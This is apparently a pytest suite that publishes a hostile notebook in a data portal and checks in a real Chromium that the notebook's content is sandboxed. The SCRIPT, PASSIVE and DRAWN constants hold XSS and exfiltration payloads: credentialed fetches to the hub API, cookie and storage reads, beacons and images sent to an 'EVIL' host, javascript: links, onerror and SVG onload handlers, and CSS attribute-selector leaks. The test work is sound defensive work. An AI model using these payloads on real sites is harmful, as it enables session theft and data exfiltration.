"""A notebook made to attack its readers, published and read in a real Chromium."""

from __future__ import annotations

import threading
from collections.abc import Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import TYPE_CHECKING, Any

import pytest
import uvicorn
from axe_playwright_python.sync_playwright import Axe
from starlette.types import Receive, Scope, Send

from datalab.people import accounts
from datalab.portal.person import COOKIE, HUB_COOKIE
from datalab.projects import publication
from tests.portal.conftest import PREFIX
from tests.portal.desk import now
from tests.portal.patience import until
from tests.portal.press import SLUG, SURE, Press
from tests.portal.test_browser import WCAG, opened

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Page

pytestmark = pytest.mark.browser

SCRIPT = """
window.found = {};
const tried = async (name, act) => {
  try { window.found[name] = String(await act()); }
  catch (error) { window.found[name] = "refused: " + error.name; }
};
(async () => {
  const hub = "/hub/api/user", api = "HOST/hub/api/user", evil = "EVIL/x";
  await tried("hub", async () => (await fetch(api, {credentials: "include"})).text());
  await tried("portal", async () =>
    (await fetch("HOST/services/datalab/me/", {credentials: "include"})).text());
  await tried("xhr", () => new Promise((yes, no) => {
    const x = new XMLHttpRequest(); x.withCredentials = true;
    x.onload = () => yes(x.responseText); x.onerror = () => no(new Error("network"));
    x.open("GET", api); x.send(); }));
  await tried("cookie", () => document.cookie);
  await tried("storage", () => localStorage.length);
  await tried("parent", () => parent.document.title);
  await tried("top", () => { top.location = evil; return "went"; });
  await tried("opened", () => window.open(evil) === null ? "refused" : "opened");
  await tried("image", () => new Promise((yes, no) => {
    const i = new Image(); i.onload = () => yes("loaded"); i.onerror = no; i.src = evil; }));
  await tried("beacon", () => navigator.sendBeacon(evil, "secret"));
  await tried("socket", () => new Promise((yes, no) => {
    const w = new WebSocket("EVIL/x".replace("http", "ws")); w.onopen = yes; w.onerror = no; }));
  await tried("form", () => {
    const f = document.createElement("form"); f.method = "post"; f.action = api;
    document.body.append(f); f.submit(); return "sent"; });
  await tried("frame", () => { const f = document.createElement("iframe"); f.src = evil;
    document.body.append(f); return "made"; });
  await tried("worker", () => new Worker(URL.createObjectURL(new Blob(["fetch('EVIL/w')"]))));
  await tried("eval", () => eval("6 * 7"));
  window.finished = true;
})();
"""
PASSIVE = """
<div onclick="window.hit=1"><a id="link" href="javascript:window.hit=2">link</a>
<a href="JaVaScRiPt&colon;window.hit=2">link</a>
<a href="data:text/html,<script>window.hit=3</script>">link</a>
<img src="EVIL/img.png" onerror="window.hit=4" alt="x">
<meta http-equiv="refresh" content="0;url=EVIL/meta"><base href="EVIL/">
<style>body{background:url(EVIL/css)} input[value^=a]{background:url(EVIL/a)}</style>
<link rel="stylesheet" href="EVIL/sheet.css"><p style="background:url(EVIL/style);position:fixed;
inset:0">over</p><noscript><img src="EVIL/noscript"></noscript>
<template><img src="EVIL/template"></template><p>harmless words</p></div>
"""
DRAWN = """<svg xmlns="http://www.w3.org/2000/svg" onload="window.hit=5" width="40" height="40">
<script>window.hit=6; fetch("EVIL/svg")</script><image href="EVIL/image" width="9" height="9"/>
<foreignObject><iframe src="EVIL/foreign"/></foreignObject><rect width="30" height="30"/></svg>"""


@dataclass
class Witness:
    """Who was asked for what: another site, and the hub of this one with its cookies."""

    evil: str = ""
    elsewhere: list[str] = field(default_factory=list)
    hub: list[tuple[str, str, bool]] = field(default_factory=list)


@pytest.fixture(scope="module")
def witness() -> Iterator[Witness]:
    seen = Witness()

    class Listener(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            seen.elsewhere.append(self.path)
            self.send_response(204)
            self.end_headers()

        do_POST = do_GET

        def log_message(self, *_: Any) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Listener)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    seen.evil = f"http://127.0.0.1:{server.server_port}"
    yield seen
    server.shutdown()


@pytest.fixture(scope="module")
def press(tmp_path_factory: pytest.TempPathFactory) -> Press:
    return Press(tmp_path_factory.mktemp("hostile"))


@pytest.fixture(scope="module")
def address(press: Press, witness: Witness) -> Iterator[str]:
    """The portal on a real port, with something in the place of the hub that notes its visitors."""

    async def app(scope: Scope, receive: Receive, send: Send) -> None:
        if scope["type"] != "http" or not scope["path"].startswith("/hub/"):
            await press.desk.app(scope, receive, send)
            return
        headers = {k.decode(): v.decode() for k, v in scope["headers"]}
        known = HUB_COOKIE in headers.get("cookie", "")
        witness.hub.append((scope["method"], scope["path"], known))
        body = b'{"name": "student"}' if known else b"{}"
        head = [(b"content-type", b"application/json")]
        await send({"type": "http.response.start", "status": 200, "headers": head})
        await send({"type": "http.response.body", "body": body})

    server = uvicorn.Server(uvicorn.Config(app, port=0, log_level="warning"))
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    while not server.started:
        thread.join(0.05)
    port = server.servers[0].sockets[0].getsockname()[1]
    host = f"http://127.0.0.1:{port}"
    _publish(press, host, witness.evil)
    yield host
    server.should_exit = True
    thread.join(10)


def _publish(press: Press, host: str, evil: str) -> None:
    owner = press.desk.browser_of("student")
    placed = {
        name: text.replace("HOST", host).replace("EVIL", evil)
        for name, text in {"script": SCRIPT, "passive": PASSIVE, "drawn": DRAWN}.items()
    }
    notebook = press.notebook(
        "hostile.ipynb",
        f"#! # Titre\n\n{placed['passive']}\n\n[lien](javascript:window.hit=7)\n\n"
        f"![x]({evil}/markdown.png)\n\n<script>window.hit=8</script>",
        "from IPython.display import HTML, SVG, display",
        f"display(HTML({placed['passive']!r}))",
        f"display(HTML('<p>plot</p><script>' + {placed['script']!r} + '</script>'))",
        "import html\ndocument = '<script>' + " + repr(placed["script"]) + " + '</script>'\n"
        "display(HTML('<iframe srcdoc=\"' + html.escape(document) + '\"></iframe>'))",
        f"display(SVG({placed['drawn']!r}))",
        f"display(HTML({placed['drawn']!r}))",
    )
    at = press.prepare(owner, notebook)
    page = owner.get(at)
    keys = [part.split('"')[0] for part in page.text.split('name="alt:')[1:]]
    assert len(keys) == 5, "three frames, two drawings"
    words = {f"alt:{key}": "Un dessin." for key in keys}
    assert owner.post(at, {**SURE, **words}).status_code == 303


@pytest.fixture
def page(browser: Browser, press: Press, address: str) -> Iterator[Page]:
    """A reader who is signed in, at the hub too."""
    made = opened(browser, locale="fr-FR")
    account = accounts.get(press.desk.store, "student")
    token = press.desk.visits.open(account, "hub-session", now())
    host = address.removeprefix("http://").partition(":")[0]
    made.context.add_cookies(
        [
            {"name": COOKIE, "value": token, "domain": host, "path": f"{PREFIX}/"},
            {"name": HUB_COOKIE, "value": "hub-session", "domain": host, "path": "/"},
        ]
    )
    yield made
    made.context.close()


def test_no_script_of_a_page_reaches_anything(page: Page, address: str, witness: Witness) -> None:
    witness.hub.clear()
    witness.elsewhere.clear()
    here = f"{address}{PREFIX}/pages/{SLUG}/hostile"
    page.goto(here)
    # A third one, without a script, tried to go elsewhere by itself and was kept from it.
    for found in page.locator("iframe").all():
        found.scroll_into_view_if_needed()  # they are loaded when they come near
        page.wait_for_timeout(500)
    frames = [frame for frame in page.main_frame.child_frames if "/files/" in frame.url]
    assert len(frames) == 2
    for frame in frames:
        until(frame, "window.finished === true")
        found = frame.evaluate("window.found")
        refused = {name for name, said in found.items() if said.startswith("refused")}
        assert refused >= {
            "hub", "portal", "xhr", "cookie", "storage", "parent", "top", "opened", "eval",
        }, found  # fmt: skip
        assert "student" not in str(found).lower()
    page.wait_for_timeout(500)
    assert page.url == here, "the page stayed where it was"
    assert page.evaluate("window.hit") is None
    assert witness.hub == [], "the hub was not even asked"
    assert witness.elsewhere == [], "no other site learnt of the reader"
    assert len(page.context.pages) == 1


def test_its_links_and_markup_do_nothing(page: Page, address: str) -> None:
    page.goto(f"{address}{PREFIX}/pages/{SLUG}/hostile")
    body = page.locator(".published .body")
    assert "harmless words" in body.inner_text()
    for tag in ("script", "style", "meta", "base", "link", "form", "template", "noscript"):
        assert body.locator(tag).count() == 0, tag
    assert page.evaluate(
        """() => [...document.querySelectorAll('.body *')].flatMap((e) => [...e.attributes])
             .filter((a) => a.name.startsWith('on') || a.name === 'style'
                     || /^\\s*(javascript|data:text)/i.test(a.value)).map((a) => a.name)"""
    ) == []  # fmt: skip


def test_a_drawing_opened_by_itself_runs_nothing(
    page: Page, address: str, witness: Witness, press: Press
) -> None:
    witness.hub.clear()
    witness.elsewhere.clear()
    page.goto(f"{address}{PREFIX}/pages/{SLUG}/hostile/v/1/files/{_file(press, 'svg')}")
    page.wait_for_timeout(800)
    assert page.evaluate("self.origin") == "null"
    assert page.evaluate("window.hit") is None
    assert (witness.hub, witness.elsewhere) == ([], [])


def test_a_frame_is_shown_in_its_page_only(page: Page, address: str, press: Press) -> None:
    page.goto(f"{address}{PREFIX}/pages/{SLUG}/hostile/v/1/files/{_file(press, 'html')}")
    assert page.url.endswith("/hostile/v/1")


def _file(press: Press, ending: str) -> str:
    found = publication.find(press.project, "hostile")
    return next(p["content"] for p in found.parts if p.get("content", "").endswith(f".{ending}"))


@pytest.mark.parametrize("language", ["fr-FR", "en-GB"])
@pytest.mark.parametrize("width", [360, 1280])
def test_axe_finds_nothing(browser: Browser, address: str, width: int, language: str) -> None:
    page = opened(
        browser, locale=language, viewport={"width": width, "height": 800}, bypass_csp=True
    )
    found = {}
    for path in (f"pages/{SLUG}/hostile", "pages/"):
        page.goto(f"{address}{PREFIX}/{path}")
        page.evaluate("document.querySelectorAll('details').forEach((d) => { d.open = true; })")
        result = Axe().run(page, options={**WCAG, "iframes": False})
        for violation in result.response["violations"]:
            found[f"{path}: {violation['id']}"] = [n["target"] for n in violation["nodes"][:3]]
        wide = page.evaluate("document.documentElement.scrollWidth")
        if wide > width:
            found[f"{path}: sideways"] = [wide]
    page.context.close()
    assert found == {}


def test_a_page_is_read_without_scripts(browser: Browser, address: str) -> None:
    page = opened(browser, locale="fr-FR", java_script_enabled=False)
    page.goto(f"{address}{PREFIX}/pages/{SLUG}/hostile")
    page.locator("summary").first.click()
    assert page.locator("details[open] pre").first.is_visible()
    page.locator(".languages a").click()
    assert page.locator("html").get_attribute("lang") == "en"
    page.context.close()
